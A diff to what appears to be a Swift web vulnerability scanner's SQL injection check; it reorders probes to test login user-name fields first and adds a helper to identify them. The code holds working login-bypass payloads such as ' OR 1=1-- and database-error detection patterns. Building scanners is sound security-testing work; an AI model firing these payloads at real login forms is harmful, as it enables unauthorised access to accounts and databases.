@@ -14,11 +14,12 @@ struct SQLInjection: ScanCheck {
                          #"ORA-\d{5}|quoted string not properly terminated"#, #"SQLSTATE\[|Unclosed quotation mark|ODBC SQL Server|Microsoft OLE DB|SQLException"#]
 
     func run(_ scan: ScanContext) async {
-        for point in scan.injectionPoints() {
+        // Logins' user names first: an error probe on a password field can leave a database broken for a while.
+        let points = scan.injectionPoints()
+        for point in points.filter(Self.isLoginUser) + points.filter({ !Self.isLoginUser($0) }) {
             defer { scan.operationDone() }
             guard let baseline = await point.send(scan, payload: point.value) else { continue }
             if Self.databaseError(in: baseline.response.text) != nil { continue }
-            // The bypass first: a database error on the login can leave a lab's connection broken for a while.
             if await loginBypass(point, baseline: baseline, scan) { continue }
             if await errorBased(point, scan) { continue }
             await booleanBased(point, baseline: baseline, scan)
@@ -28,8 +29,8 @@ struct SQLInjection: ScanCheck {
     /// A login's user name closed and commented out (`x'--`): the rest of the query, the password test, is gone. A
     /// bypass answers unlike the failed login, twice alike, with a session cookie or a redirect the failure lacks.
     func loginBypass(_ point: InjectionPoint, baseline: Exchange, _ scan: ScanContext) async -> Bool {
-        guard point.place == .body, let body = point.body, let password = body.keys.first(where: { $0.lowercased().contains("pass") }),
-              password != point.name, !baseline.response.isRedirect, !baseline.response.setsCookie else { return false }
+        guard Self.isLoginUser(point), let password = point.body?.keys.first(where: { $0.lowercased().contains("pass") }),
+              !baseline.response.isRedirect, !baseline.response.setsCookie else { return false }
         for payload in [point.value + "'--", point.value + "' OR '1'='1'--", "' OR 1=1--"] {
             guard let first = await point.send(scan, payload: payload), first.response.isRedirect || first.response.setsCookie,
                   let again = await point.send(scan, payload: payload), again.response.status == first.response.status else { continue }
@@ -49,6 +50,12 @@ struct SQLInjection: ScanCheck {
             return true
         }
         return false
+    }
+
+    /// A body field next to a password field: the user name of a login.
+    static func isLoginUser(_ point: InjectionPoint) -> Bool {
+        guard point.place == .body, let body = point.body, !point.name.lowercased().contains("pass") else { return false }
+        return body.keys.contains { $0.lowercased().contains("pass") }
     }
 
     /// True and false conditions appended: each answers the same twice, true and false answer differently, and the
